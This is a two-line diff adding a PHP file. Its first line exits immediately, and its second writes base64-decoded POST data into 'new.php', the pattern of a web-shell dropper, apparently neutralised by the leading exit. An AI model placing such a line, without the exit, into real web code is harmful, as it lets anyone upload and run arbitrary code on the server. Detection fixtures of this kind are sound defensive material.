@@ -1,0 +1,2 @@
+<?php exit;
+file_put_contents("new.php", base64_decode($_POST["data"]));
